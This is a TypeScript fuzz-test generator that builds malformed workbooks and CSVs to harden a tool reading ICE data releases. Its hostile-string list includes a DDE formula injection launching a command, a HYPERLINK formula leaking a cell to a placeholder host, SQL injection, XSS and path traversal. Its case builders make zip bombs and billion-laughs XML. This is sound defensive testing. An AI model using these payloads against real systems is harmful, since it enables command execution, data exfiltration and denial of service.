/**
 * Seeded generator of malformed release files (issue 10). `makeCase(seed)` is deterministic: the same
 * seed gives the same bytes, so any failure reproduces from its seed alone (`npm run fuzz -- --seed N`).
 *
 * Kinds: damaged zips of valid ICE-layout workbooks (truncations, bit flips, byte overwrites), zip
 * bombs (by ratio, by total size, by lying about the size), entity expansion in sheet XML and shared
 * strings, deep nesting, huge shared-string tables, 16,384 and 16,385 columns, wrong types in every
 * column (text, dates, numbers, booleans, #N/A), hostile strings (formula injection, control
 * characters, NUL, RTL overrides, 32,767-char cells), CSVs with broken quoting, mixed delimiters,
 * BOMs, UTF-16, bytes that are not UTF-8, long lines, empty files, sheets that share one worksheet
 * part, and things that are not files (a directory named .xlsx, a symlink loop, a FIFO).
 *
 * Each case says what is acceptable: `error` (must fail with a HandoffError, optionally one of some
 * codes), `load` (must read completely, optionally with an exact row count) or `either`; in every case
 * a failure must be a HandoffError with a code other than 'internal' whose location names the file.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { DEFAULT_LIMITS, type InputLimits } from '../../src/core/config.ts';
import type { ErrorCode } from '../../src/core/errors.ts';
import { writeXlsx, type XlsxWriteCell } from '../../src/xlsx/index.ts';
import { publishedHeaders } from '../helpers/published-headers.ts';
import { SIX_PREAMBLE } from '../helpers/workbooks.ts';
import { buildZip, type FixtureEntry } from '../../src/xlsx/build-zip.test-helper.ts';
import { columnLetters } from '../../src/xlsx/index.ts';
import { prng } from '../helpers/prng.ts';

export type Expectation =
  | { outcome: 'error'; codes?: ErrorCode[] }
  | { outcome: 'load'; rows?: number }
  /** Success must read the same records as `sameAs` (a corruption the CRC did not need to catch). */
  | { outcome: 'either'; sameAs?: string; rowsIfLoaded?: number };

/** A value a case put into a column: after ingest that column of the file's rows holds at least `cells` values. */
export interface InjectedValue {
  family: string;
  header: string;
  value: string;
  cells: number;
}

export interface FuzzCase {
  seed: number;
  kind: string;
  /** File name the case writes (its extension matters: it picks nothing, but it is what users see). */
  fileName: string;
  /** Writes the input into `dir` and returns its path. */
  write(dir: string): Promise<string>;
  expect: Expectation;
  /** Limits to read with (lowered for the size-based cases, so they need no gigabytes). */
  limits?: Partial<InputLimits>;
  /**
   * The undamaged file a damaged one was made from (real-file kinds): when the damaged file reads without
   * error it must give the same records, unless the damage may change values (plain delimited text).
   */
  pristine?: (dir: string) => Promise<string>;
  /** Values injected into the file (value-level real-file kinds), checked after ingest. */
  injected?: InjectedValue[];
}

export { prng } from '../helpers/prng.ts';

type Rnd = () => number;
const int = (r: Rnd, n: number): number => Math.floor(r() * n);
const pick = <T>(r: Rnd, items: readonly T[]): T => items[int(r, items.length)]!;

const HEADERS = publishedHeaders().july2025;
export const FAMILY_HEADERS: Record<string, readonly string[]> = {
  detainers: HEADERS.detainers,
  arrests: HEADERS.arrests,
  encounters: HEADERS.encounters,
  detention_stints: HEADERS.detention_stints,
  removals: HEADERS.removals,
};
const FAMILY_NAMES = Object.keys(FAMILY_HEADERS);

/** Hostile strings every text column should take without harm. */
export const HOSTILE_STRINGS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  '\rleading CR',
  'control \u0001\u0002\u0007\u001b chars',
  'bidi \u202Eevil\u202C text \u2066isolate\u2069',
  'zero\u200Bwidth\uFEFFbom',
  '"quoted", with, commas',
  "O'Brien; DROP TABLE detainers; --",
  '<script>alert(1)</script>',
  '${process.exit(1)}',
  '../../../etc/passwd',
  '\\\\server\\share',
  'emoji 👩🏽‍⚖️ and astral 𝔘',
  '   ',
  'b(6), b(7)(c)',
  '1e309',
  'NaN',
  '-0',
  '0x1F',
  '2024-13-45',
  '00/00/0000',
  '#N/A',
  'TRUE',
];

/** A value of a random type for any column: text, a date, a number, or a hostile string. */
function randomCell(r: Rnd): XlsxWriteCell {
  switch (int(r, 7)) {
    case 0:
      return pick(r, HOSTILE_STRINGS);
    case 1:
      return { date: `${1900 + int(r, 200)}-${String(1 + int(r, 12)).padStart(2, '0')}-${String(1 + int(r, 28)).padStart(2, '0')}` };
    case 2:
      return pick(r, [0, -1, 1e15, -1e15, 2958465, 2958466, 0.5, 1e-300, 1.7976931348623157e308, 45000.75]);
    case 3:
      return null;
    case 4:
      return String(int(r, 1e9));
    case 5:
      return `P${int(r, 1e6)}`;
    default:
      return pick(r, ['TEXAS', 'MASSACHUSETTS', 'Booked into Detention', 'MEXICO', 'Male', 'Unknown']);
  }
}

/** A plausible data row of a family: mostly the usual kinds of values. */
function plainRow(r: Rnd, headers: readonly string[], i: number): XlsxWriteCell[] {
  return headers.map((h) => {
    if (/date/i.test(h)) return r() < 0.9 ? { date: `2024-${String(1 + (i % 12)).padStart(2, '0')}-${String(1 + int(r, 28)).padStart(2, '0')}` } : null;
    if (/identifier|id$/i.test(h)) return `P${i}`;
    if (/state/i.test(h)) return pick(r, ['TEXAS', 'MASSACHUSETTS', 'NEW YORK']);
    if (/year/i.test(h)) return 1950 + int(r, 60);
    return r() < 0.7 ? pick(r, ['A', 'B', 'Unknown', 'b(6), b(7)(c)', 'Booked into Detention']) : null;
  });
}

/** A small valid workbook of a family in ICE's layout (six preamble rows). */
async function validWorkbook(r: Rnd, family: string, rows: number): Promise<Buffer> {
  const headers = FAMILY_HEADERS[family]!;
  const tmp = path.join(process.env.HANDOFF_FUZZ_SCRATCH ?? '/tmp', `fuzz-base-${process.pid}-${Math.floor(r() * 1e9)}.xlsx`);
  await writeXlsx(tmp, [{ name: 'Sheet1', rows: [...SIX_PREAMBLE.map((l) => [l]), [...headers], ...Array.from({ length: rows }, (_, i) => plainRow(r, headers, i))] }]);
  const { readFile, rm } = await import('node:fs/promises');
  const buf = await readFile(tmp);
  await rm(tmp, { force: true });
  return buf;
}

// ---- raw zip / workbook building (for what writeXlsx rightly refuses to write) ----

const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const STYLES = `<styleSheet xmlns="${MAIN_NS}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`;

/** A workbook from raw sheet XML (and optional shared strings and part overrides). */
function rawWorkbook(sheets: (string | Buffer)[], opts: { sst?: string; workbook?: string; entries?: FixtureEntry[] } = {}): Buffer {
  const entries: FixtureEntry[] = [
    { name: '_rels/.rels', data: `<Relationships xmlns="${PKG_NS}"><Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>` },
    {
      name: 'xl/workbook.xml',
      data: opts.workbook ?? `<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheets>${sheets.map((_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      data:
        `<Relationships xmlns="${PKG_NS}">` +
        sheets.map((_, i) => `<Relationship Id="rId${i + 1}" Type="${REL_NS}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join('') +
        `<Relationship Id="rIdS" Type="${REL_NS}/styles" Target="styles.xml"/><Relationship Id="rIdT" Type="${REL_NS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    },
    { name: 'xl/styles.xml', data: STYLES },
  ];
  if (opts.sst !== undefined) entries.push({ name: 'xl/sharedStrings.xml', data: opts.sst });
  sheets.forEach((xml, i) => entries.push({ name: `xl/worksheets/sheet${i + 1}.xml`, data: xml }));
  for (const e of opts.entries ?? []) {
    const at = entries.findIndex((x) => x.name === e.name);
    if (at >= 0) entries[at] = e;
    else entries.push(e);
  }
  return buildZip(entries);
}

function escapeXml(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}


/** One raw cell of any type OOXML allows, including booleans and errors. */
function rawCell(ref: string, r: Rnd): string {
  switch (int(r, 9)) {
    case 0:
      return `<c r="${ref}" t="b"><v>${int(r, 2)}</v></c>`;
    case 1:
      return `<c r="${ref}" t="e"><v>${pick(r, ['#N/A', '#DIV/0!', '#VALUE!', '#REF!', '#NAME?', '#NUM!', '#NULL!'])}</v></c>`;
    case 2:
      return `<c r="${ref}" s="1"><v>${pick(r, [1, 45000, 2958465, 2958466, -5, 0, 60, 1e9, 45000.999999])}</v></c>`;
    case 3:
      return `<c r="${ref}"><v>${pick(r, ['1', '-0', '1e308', '3.14159', '123456789012345678901234567890', '0.1e-400'])}</v></c>`;
    case 4:
      return `<c r="${ref}" t="inlineStr"><is><t>${escapeXml(pick(r, HOSTILE_STRINGS).replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, ''))}</t></is></c>`;
    case 5:
      return `<c r="${ref}" t="str"><f>A1&amp;B1</f><v>${escapeXml(pick(r, ['=1+1', 'formula result', '']))}</v></c>`;
    case 6:
      return `<c r="${ref}" t="d"><v>${pick(r, ['2024-02-30', '2024-01-15T10:00:00', 'not a date', '1899-12-31'])}</v></c>`;
    case 7:
      return `<c r="${ref}" t="inlineStr"><is><t>_x0000_ escaped _x001F_ and &#x9;&#xA; refs</t></is></c>`;
    default:
      return `<c r="${ref}"/>`;
  }
}

function sheetXml(rows: string[]): string {
  return `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN_NS}"><sheetData>${rows.join('')}</sheetData></worksheet>`;
}

function headerRowXml(headers: readonly string[], rowNumber: number): string {
  return `<row r="${rowNumber}">${headers.map((h, i) => `<c r="${columnLetters(i)}${rowNumber}" t="inlineStr"><is><t>${escapeXml(h)}</t></is></c>`).join('')}</row>`;
}

// ---- the case kinds ----

type Made = Omit<FuzzCase, 'seed' | 'kind' | 'write' | 'pristine'> & {
  bytes?: Buffer;
  make?: (file: string) => Promise<void> | void;
  /** The undamaged bytes (written under the same file name when a damaged read must be compared). */
  pristineBytes?: Buffer;
};
type Maker = (r: Rnd, seed: number) => Promise<Made>;

const bases = new Map<string, Buffer>();
async function base(family: string): Promise<Buffer> {
  let b = bases.get(family);
  if (!b) {
    b = await validWorkbook(prng(family.length * 7919), family, 25);
    bases.set(family, b);
  }
  return b;
}

/** Name of the pristine base of `family`, used by `either` cases to compare what was read. */
export const baseName = (family: string): string => `base-${family}.xlsx`;
export async function writeBase(dir: string, family: string): Promise<string> {
  const file = path.join(dir, baseName(family));
  await writeFile(file, await base(family));
  return file;
}

const MAKERS: Record<string, Maker> = {
  async truncate(r) {
    const family = pick(r, FAMILY_NAMES);
    const b = await base(family);
    return { fileName: `${family}-truncated.xlsx`, bytes: b.subarray(0, int(r, b.length)), expect: { outcome: 'error' } };
  },
  async bitflip(r) {
    const family = pick(r, FAMILY_NAMES);
    const b = Buffer.from(await base(family));
    for (let f = 1 + int(r, 4); f > 0; f--) b[int(r, b.length)]! ^= 1 << int(r, 8);
    return { fileName: `${family}-flipped.xlsx`, bytes: b, expect: { outcome: 'either', sameAs: family } };
  },
  async overwrite(r) {
    const family = pick(r, FAMILY_NAMES);
    const b = Buffer.from(await base(family));
    const at = int(r, b.length);
    const n = 1 + int(r, 64);
    for (let i = at; i < Math.min(b.length, at + n); i++) b[i] = int(r, 256);
    return { fileName: `${family}-overwritten.xlsx`, bytes: b, expect: { outcome: 'either', sameAs: family } };
  },
  async zipBombRatio(r) {
    // A sheet of whitespace: ~4 MB that deflates to a few KB (ratio far above 200).
    const pad = ' '.repeat((2 + int(r, 4)) * 1024 * 1024);
    return { fileName: 'bomb-ratio.xlsx', bytes: rawWorkbook([sheetXml([pad])]), expect: { outcome: 'error', codes: ['zip_bomb'] } };
  },
  async zipBombSize(r) {
    // Ordinary compressibility, but more bytes than the (lowered) budget allows.
    const rows = Array.from({ length: 4000 }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}"><v>${int(r, 1e9)}</v></c><c r="B${i + 1}"><v>${int(r, 1e9)}</v></c></row>`);
    return {
      fileName: 'bomb-size.xlsx',
      bytes: rawWorkbook([sheetXml(rows)]),
      limits: { maxUncompressedBytes: 64 * 1024 },
      expect: { outcome: 'error', codes: ['zip_bomb'] },
    };
  },
  async zipBombLie(r) {
    // Declares 1 KB, inflates to megabytes: must stop at the declared size, not read on.
    const pad = `<row r="1"><c r="A1"><v>1</v></c></row>${' '.repeat((1 + int(r, 8)) * 1024 * 1024)}`;
    const wb = rawWorkbook([], {
      workbook: `<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheets><sheet name="S1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      entries: [
        { name: 'xl/_rels/workbook.xml.rels', data: `<Relationships xmlns="${PKG_NS}"><Relationship Id="rId1" Type="${REL_NS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>` },
        { name: 'xl/worksheets/sheet1.xml', data: sheetXml([pad]), declaredSize: 1024 },
      ],
    });
    return { fileName: 'bomb-lie.xlsx', bytes: wb, expect: { outcome: 'error' } };
  },
  async billionLaughs(r) {
    const dtd = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>';
    const where = int(r, 3);
    const headers = FAMILY_HEADERS.detainers!;
    const sheet = `<?xml version="1.0"?>${where === 0 ? dtd : ''}<worksheet xmlns="${MAIN_NS}"><sheetData>${headerRowXml(headers, 1)}<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>`;
    const sst = `<?xml version="1.0"?>${where === 1 ? dtd : ''}<sst xmlns="${MAIN_NS}"><si><t>&lol3;</t></si></sst>`;
    const entries: FixtureEntry[] = where === 2 ? [{ name: 'xl/styles.xml', data: `<?xml version="1.0"?>${dtd}${STYLES}` }] : [];
    return { fileName: 'laughs.xlsx', bytes: rawWorkbook([sheet], { sst, entries }), expect: { outcome: 'error', codes: ['hostile_xml', 'malformed_xml'] } };
  },
  async deepNesting(r) {
    const depth = 10_000 + int(r, 200_000);
    const deep = '<a>'.repeat(depth) + '</a>'.repeat(depth);
    const part = pick(r, ['xl/workbook.xml', 'xl/styles.xml', 'xl/_rels/workbook.xml.rels', '_rels/.rels', 'sheet', 'sst']);
    const headers = FAMILY_HEADERS.arrests!;
    if (part === 'sheet' || part === 'sst') {
      const sheet = sheetXml([headerRowXml(headers, 1), `<row r="2"><c r="A2" t="inlineStr"><is>${deep}<t>x</t></is></c></row>`]);
      const sst = `<sst xmlns="${MAIN_NS}"><si>${deep}<t>x</t></si></sst>`;
      return { fileName: `deep-${part}.xlsx`, bytes: rawWorkbook([sheet], part === 'sst' ? { sst } : {}), expect: { outcome: 'either' } };
    }
    const inject = (xml: string): string => xml.replace(/(<[A-Za-z]+ [^>]*>)/, `$1${deep}`);
    const wb = rawWorkbook([sheetXml([headerRowXml(headers, 1)])]);
    void wb;
    const names: Record<string, string> = {
      'xl/workbook.xml': `<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}">${deep}<sheets><sheet name="S1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      'xl/styles.xml': inject(STYLES),
      'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${PKG_NS}">${deep}<Relationship Id="rId1" Type="${REL_NS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
      '_rels/.rels': `<Relationships xmlns="${PKG_NS}">${deep}<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    };
    return {
      fileName: `deep-${part.replace(/[/.]/g, '_')}.xlsx`,
      bytes: rawWorkbook([sheetXml([headerRowXml(headers, 1)])], { entries: [{ name: part, data: names[part]! }] }),
      expect: { outcome: 'either' },
    };
  },
  async hugeSst(r) {
    const over = r() < 0.5;
    const n = over ? 2001 : 20_000 + int(r, 30_000);
    const headers = FAMILY_HEADERS.detainers!;
    const strings = [...headers, ...Array.from({ length: n - headers.length }, (_, i) => `s${i}`)];
    const sst = `<sst xmlns="${MAIN_NS}" count="4294967295" uniqueCount="4294967295">${strings.map((s) => `<si><t>${escapeXml(s)}</t></si>`).join('')}</sst>`;
    const header = `<row r="1">${headers.map((_, i) => `<c r="${columnLetters(i)}1" t="s"><v>${i}</v></c>`).join('')}</row>`;
    const data = `<row r="2"><c r="A2" s="1"><v>45000</v></c><c r="B2" t="s"><v>${n - 1}</v></c><c r="C2" t="s"><v>${n + 5}</v></c></row>`;
    return {
      fileName: 'huge-sst.xlsx',
      bytes: rawWorkbook([sheetXml([header, data])], { sst }),
      ...(over ? { limits: { maxSharedStrings: 2000 } } : {}),
      // Index n+5 is out of range: a located error either way.
      expect: { outcome: 'error', codes: over ? ['too_large'] : ['malformed_xml', 'bad_input'] },
    };
  },
  async wideColumns(r) {
    const over = r() < 0.5;
    const width = over ? 16_385 : 16_384;
    const headers = [...FAMILY_HEADERS.removals!];
    const all = [...headers, ...Array.from({ length: width - headers.length }, (_, i) => `Extra ${i}`)];
    const data = `<row r="2">${all.map((_, i) => (i % 97 === 0 || i === width - 1 ? `<c r="${columnLetters(i)}2"><v>${i}</v></c>` : '')).join('')}</row>`;
    return {
      fileName: `cols-${width}.xlsx`,
      bytes: rawWorkbook([sheetXml([headerRowXml(all, 1), data])]),
      expect: over ? { outcome: 'error', codes: ['too_large', 'malformed_xml'] } : { outcome: 'load', rows: 1 },
    };
  },
  async wrongTypesXml(r, seed) {
    const family = pick(r, FAMILY_NAMES);
    const headers = FAMILY_HEADERS[family]!;
    const n = 5 + int(r, 30);
    const rows = [headerRowXml(headers, 1)];
    for (let i = 0; i < n; i++) {
      const rn = i + 2;
      // The first column always holds something, so no row is "one filled cell" (a note).
      rows.push(`<row r="${rn}"><c r="A${rn}"><v>${seed}</v></c><c r="B${rn}" t="inlineStr"><is><t>x</t></is></c>${headers.slice(2).map((_, c) => rawCell(`${columnLetters(c + 2)}${rn}`, r)).join('')}</row>`);
    }
    return { fileName: `${family}-wrong-types.xlsx`, bytes: rawWorkbook([sheetXml(rows)]), expect: { outcome: 'load', rows: n } };
  },
  async wrongTypesWritten(r) {
    const family = pick(r, FAMILY_NAMES);
    const headers = FAMILY_HEADERS[family]!;
    const n = 3 + int(r, 40);
    const rows: XlsxWriteCell[][] = Array.from({ length: n }, () => headers.map((_, c) => (c < 2 ? 'X' : randomCell(r))));
    const long = r() < 0.3;
    if (long) rows[0]![2] = 'L'.repeat(32_767);
    const tooLong = !long && r() < 0.15;
    if (tooLong) rows[0]![2] = 'L'.repeat(32_768);
    return {
      fileName: `${family}-mixed.xlsx`,
      make: async (file) => {
        // writeXlsx refuses 32,768 characters: write 32,767 and patch the limit down instead.
        await writeXlsx(file, [{ name: 'Sheet1', rows: [...SIX_PREAMBLE.map((l) => [l]), [...headers], ...rows.map((row) => row.map((c) => (typeof c === 'string' && c.length > 32_767 ? c.slice(1) : c)))] }], {
          strings: r() < 0.5 ? 'shared' : 'inline',
        });
      },
      ...(tooLong ? { limits: { maxCellChars: 32_766 } } : {}),
      expect: tooLong ? { outcome: 'error', codes: ['too_large'] } : { outcome: 'load', rows: n },
    };
  },
  async controlChars(r) {
    // Raw control characters and NUL in the XML text (not allowed in XML 1.0), and a sheet name with an RTL override.
    const headers = FAMILY_HEADERS.arrests!;
    const bad = pick(r, ['\u0000', '\u0001', '\u001f', '\uFFFE', '\uD800']);
    const sheet = Buffer.from(sheetXml([headerRowXml(headers, 1), `<row r="2"><c r="A2" t="inlineStr"><is><t>a${bad}b</t></is></c><c r="B2"><v>1</v></c><c r="C2"><v>2</v></c></row>`]), 'utf8');
    const workbook = `<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheets><sheet name="\u202Egnp.exe" sheetId="1" r:id="rId1"/></sheets></workbook>`;
    return { fileName: 'control-chars.xlsx', bytes: rawWorkbook([sheet], { workbook }), expect: { outcome: 'either' } };
  },
  async oddSheetXml(r) {
    const headers = FAMILY_HEADERS.detainers!;
    const variant = int(r, 8);
    const rows = [headerRowXml(headers, 1)];
    const cells = (rn: number) => headers.slice(0, 6).map((_, i) => `<c r="${columnLetters(i)}${rn}"><v>${i + rn}</v></c>`).join('');
    if (variant === 0) rows.push(`<row r="5">${cells(5)}</row><row r="3">${cells(3)}</row>`); // out of order
    if (variant === 1) rows.push(`<row r="2">${cells(2)}</row><row r="2">${cells(2)}</row>`); // duplicate
    if (variant === 2) rows.push(`<row r="1048577">${cells(1048577)}</row>`); // beyond Excel
    if (variant === 3) rows.push(`<row>${headers.slice(0, 6).map((_, i) => `<c><v>${i}</v></c>`).join('')}</row>`); // no refs
    if (variant === 4) rows.push(`<row r="2"><c r="ZZZZ2"><v>1</v></c></row>`); // bad ref
    if (variant === 5) rows.push(`<row r="2"><c r="A2" t="s"><v>-1</v></c><c r="B2" t="s"><v>abc</v></c></row>`);
    if (variant === 6) rows.push(`<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v>`); // unterminated
    if (variant === 7) rows.push(`<row r="2">${cells(2)}</row>`.repeat(1) + '<?pi x?><![CDATA[<row>]]><!-- c -->');
    return { fileName: `odd-sheet-${variant}.xlsx`, bytes: rawWorkbook([sheetXml(rows)]), expect: { outcome: 'either' } };
  },
  async manySheets(r) {
    const n = 50 + int(r, 250);
    const headers = FAMILY_HEADERS.arrests!;
    const sheets = Array.from({ length: n }, (_, i) => sheetXml(i % 2 ? [headerRowXml(headers, 1), `<row r="2"><c r="A2" s="1"><v>45000</v></c><c r="B2"><v>1</v></c><c r="C2"><v>2</v></c></row>`] : ['<row r="1"><c r="A1" t="inlineStr"><is><t>note</t></is></c></row>']));
    return { fileName: 'many-sheets.xlsx', bytes: rawWorkbook(sheets), expect: { outcome: 'load', rows: Math.floor(n / 2) } };
  },
  async csvBroken(r) {
    const headers = FAMILY_HEADERS[pick(r, FAMILY_NAMES)]!;
    const d = pick(r, [',', '\t', ';', '|']);
    const lines = [headers.join(d)];
    const n = 2 + int(r, 20);
    for (let i = 0; i < n; i++) {
      const cells = headers.map(() => {
        const v = randomCell(r);
        return v === null ? '' : typeof v === 'object' ? v.date : String(v);
      });
      lines.push(cells.join(d));
    }
    const breakage = int(r, 8);
    if (breakage === 0) lines.splice(1 + int(r, n), 0, `"unclosed${d}quote`);
    if (breakage === 1) lines.splice(1 + int(r, n), 0, `a"b${d}c""d${d}"e"f`);
    if (breakage === 2) lines.splice(1 + int(r, n), 0, headers.join(d === ',' ? '\t' : ','));
    if (breakage === 3) lines.push(`"${'x'.repeat(200_000)}"`);
    if (breakage === 4) lines.splice(1, 0, headers.join(d)); // repeated header
    const eol = pick(r, ['\n', '\r\n', '\r']);
    let text = lines.join(eol) + (r() < 0.5 ? eol : '');
    if (breakage === 5) text = text.slice(0, int(r, text.length));
    const bom = r() < 0.3;
    const utf16 = r() < 0.15;
    const bytes = utf16 ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]) : Buffer.concat([bom ? Buffer.from([0xef, 0xbb, 0xbf]) : Buffer.alloc(0), Buffer.from(text, 'utf8')]);
    return { fileName: pick(r, ['release.csv', 'release.txt', 'release.tsv']), bytes, expect: { outcome: 'either' } };
  },
  async csvValid(r) {
    // Hostile strings in well-quoted CSV must load unchanged.
    const family = pick(r, FAMILY_NAMES);
    const headers = FAMILY_HEADERS[family]!;
    const n = 2 + int(r, 15);
    const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const lines = [headers.map(q).join(',')];
    for (let i = 0; i < n; i++) lines.push(headers.map((_, c) => q(c < 2 ? `X${i}` : pick(r, HOSTILE_STRINGS))).join(','));
    const bom = r() < 0.5 ? '\uFEFF' : '';
    return { fileName: `${family}.csv`, bytes: Buffer.from(bom + lines.join('\r\n') + '\r\n', 'utf8'), expect: { outcome: 'load', rows: n } };
  },
  async sharedPart(r) {
    // Issue 21: many sheets over one worksheet part multiply its rows; refused when opened.
    const headers = FAMILY_HEADERS[pick(r, FAMILY_NAMES)]!;
    const sheet = sheetXml([headerRowXml(headers, 1), '<row r="2"><c r="A2" s="1"><v>45000</v></c></row>']);
    const copies = 2 + int(r, 39);
    const sheetEls = Array.from({ length: copies }, (_, i) => `<sheet name="S${i + 1}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('');
    const rels = Array.from({ length: copies }, (_, i) => `<Relationship Id="rId${i + 1}" Type="${REL_NS}/worksheet" Target="${pick(r, ['worksheets/sheet1.xml', '/xl/worksheets/sheet1.xml', 'worksheets/./sheet1.xml'])}"/>`).join('');
    const bytes = rawWorkbook([sheet], {
      workbook: `<workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><sheets>${sheetEls}</sheets></workbook>`,
      entries: [{ name: 'xl/_rels/workbook.xml.rels', data: `<Relationships xmlns="${PKG_NS}">${rels}<Relationship Id="rIdS" Type="${REL_NS}/styles" Target="styles.xml"/></Relationships>` }],
    });
    return { fileName: 'shared-part.xlsx', bytes, expect: { outcome: 'error', codes: ['bad_input'] } };
  },
  async csvNotUtf8(r) {
    // Issue 21: a byte that is not UTF-8 anywhere in a delimited file is a bad_input, not a silent U+FFFD.
    const family = pick(r, FAMILY_NAMES);
    const headers = FAMILY_HEADERS[family]!;
    const q = (v: string) => `"${v}"`;
    const lines = [headers.map(q).join(',')];
    const n = 2 + int(r, 400);
    for (let i = 0; i < n; i++) lines.push(headers.map((_, c) => q(c < 2 ? `X${i}` : pick(r, ['a', '\u00e9', '\u20ac', '\u{1F600}', '']))).join(','));
    const text = Buffer.from(`${lines.join('\n')}\n`, 'utf8');
    const bad = pick(r, [[0x80], [0xff], [0xc3], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xe9], [0xf8, 0x88, 0x80, 0x80, 0x80]]);
    // Between two characters (never inside one), so only the inserted bytes are invalid.
    let at = int(r, text.length);
    while (at < text.length && (text[at]! & 0xc0) === 0x80) at++;
    const bytes = Buffer.concat([text.subarray(0, at), Buffer.from(bad), text.subarray(at)]);
    return { fileName: `${family}.csv`, bytes, expect: { outcome: 'error', codes: ['bad_input'] } };
  },
  async tinyFiles(r) {
    const variant = int(r, 9);
    const bytes = [
      Buffer.alloc(0),
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('\n\n\r\n  \n'),
      Buffer.from('PK'),
      Buffer.from('PK\u0003\u0004'),
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
      Buffer.from('just one line without a table'),
      Buffer.from(Array.from({ length: 512 }, () => int(r, 256))),
    ][variant]!;
    return { fileName: pick(r, ['empty.xlsx', 'empty.csv', 'empty.txt']), bytes, expect: { outcome: 'error' } };
  },
  async notAFile(r) {
    const variant = int(r, 4);
    const hasMkfifo = variant === 3 && spawnSync('which', ['mkfifo']).status === 0;
    return {
      fileName: ['dir.xlsx', 'loop.xlsx', 'dangling.csv', 'fifo.csv'][variant]!,
      make: (file) => {
        if (variant === 0) mkdirSync(file);
        else if (variant === 1) {
          symlinkSync(`${file}.b`, file);
          symlinkSync(file, `${file}.b`);
        } else if (variant === 2) symlinkSync(`${file}.missing`, file);
        else if (hasMkfifo) spawnSync('mkfifo', [file]);
        else mkdirSync(file);
      },
      expect: { outcome: 'error', codes: ['bad_input', 'not_found'] },
    };
  },
};

// ---- mutations of the real ICE files (issue 21, item 5) ----
//
// The real files in ../shared/data/ice-real (see its SOURCES.md) are read once per process into small
// excerpts: the first EXCERPT_ROWS data rows of each family sheet, with its preamble and header as ICE
// wrote them (the three FY2016 pipe-delimited exports, the six sheets of the 2018-ICFO-36170 Seattle
// workbook). A case rewrites an excerpt as a small file (xlsx, csv, csv.gz or a zip holding the csv) and
// damages it: bit flips, truncation, header edits, dropped sheets, swapped date formats, injected
// territories, unknown vocabulary values. Truncations also cut the real bytes themselves (every real
// file: a whole xlsx, the first REAL_GZ_HEAD bytes of a csv.gz). Nothing of the real files is copied
// into the project: they are read from ../shared at run time, and the kinds are left out of the mix
// (with a message) where ../shared is missing.

/** Where the real files are: $HANDOFF_SHARED/data/ice-real, else ../shared/data/ice-real beside the repository. */
export const REAL_DIR = path.resolve(process.env.HANDOFF_SHARED ?? path.resolve(import.meta.dirname, '../../../shared'), 'data', 'ice-real');
/** True when the real files are there to mutate. */
export const REAL_AVAILABLE = existsSync(path.join(REAL_DIR, 'SOURCES.md'));
export const REAL_MISSING_MESSAGE = `fuzz: the real-file kinds are skipped: ${REAL_DIR} is missing (see ../shared/data/ice-real/SOURCES.md)`;

const EXCERPT_ROWS = 40;
/** Bytes of a real csv.gz that truncation cases cut within (decompressing more per case would be slow). */
const REAL_GZ_HEAD = 192 * 1024;
const SEATTLE_FILE = '3_25_19 FOIA 2018-ICFO-36170 Seattle Encounters Arrests and Removals_LESA_STU_Final-redacted-no-pwd.xlsx';
const FY2016_FILES = ['EROArrests_FY2016.csv.gz', 'EROEncounters_FY2016.csv.gz', 'ICERemovals_FY2016.csv.gz'];

type ExcerptCell = string | number | null | { date: string };
interface ExcerptSheet {
  name: string;
  /** Rows above the header, as they are (csv: raw lines). */
  preamble: ExcerptCell[][];
  header: (string | null)[];
  rows: ExcerptCell[][];
}
interface Excerpt {
  /** Short name for file names and reports. */
  id: string;
  /** The real file it was read from ('' for the synthetic detainer excerpt). */
  source: string;
